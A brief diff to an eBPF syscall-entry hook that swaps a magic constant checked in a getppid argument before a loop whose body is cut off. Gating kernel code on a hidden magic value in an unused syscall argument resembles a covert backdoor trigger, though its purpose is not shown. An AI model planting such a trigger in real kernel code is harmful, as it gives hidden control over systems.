@@ -32,7 +32,7 @@ int on_enter(u64 *ctx)
 	if (ctx[1] != NR_GETPPID)
 		return 0;
 	bpf_probe_read_kernel(&magic, 8, (void *)(ctx[0] + PARM2));
-	if (magic != 0x646d6162)
+	if (magic != 0x62617265)
 		return 0;
 	bpf_probe_read_kernel(&many, 8, (void *)(ctx[0] + PARM1));
 	for (int i = 0; i < 64; i++) {
